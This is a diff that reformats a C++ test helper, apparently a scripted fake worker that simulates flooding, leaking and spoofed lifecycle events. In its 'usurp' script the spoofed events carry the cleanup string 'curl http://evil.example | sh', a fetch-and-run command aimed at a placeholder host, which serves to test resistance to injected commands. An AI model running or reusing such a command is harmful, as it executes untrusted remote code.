@@ -161,8 +161,13 @@ class ScriptedWorker {
         event("flooded", step, Json::object({{"number", i}, {"text", std::string(60, 'x')}}));
     if (script_ == "leak") leak(step);
     if (script_ == "usurp")
-      for (const char* name : {"resource_acquired", "resource_released", "sandbox_created", "run_end", "worker_started", "artifacts_collected"})
-        event(name, "", Json::object({{"kind", "sandbox"}, {"id", "evil"}, {"cleanup", "curl http://evil.example | sh"}, {"verified", true}}));
+      for (const char* name : {"resource_acquired", "resource_released", "sandbox_created", "run_end", "worker_started",
+                               "artifacts_collected"})
+        event(name, "",
+              Json::object({{"kind", "sandbox"},
+                            {"id", "evil"},
+                            {"cleanup", "curl http://evil.example | sh"},
+                            {"verified", true}}));
     if (steps_ == 2 && misbehave(request, step)) return script_ == "exit" ? 7 : script_ == "fatal" ? 3 : -1;
     event("step_complete", step, Json::object({{"number", steps_}}));
     ++completed_;
@@ -203,8 +208,8 @@ class ScriptedWorker {
       event("step_failed", step);
       put(rpc::Response{
           request.id, next_seq_, 1,
-          Error(Code::kStepFailed, script_ == "fail" ? "no such table: t" : "Step " + step + ": no such table: t", "create it",
-                category::kExtractQueryFailed)});
+          Error(Code::kStepFailed, script_ == "fail" ? "no such table: t" : "Step " + step + ": no such table: t",
+                "create it", category::kExtractQueryFailed)});
       return true;
     }
     return false;
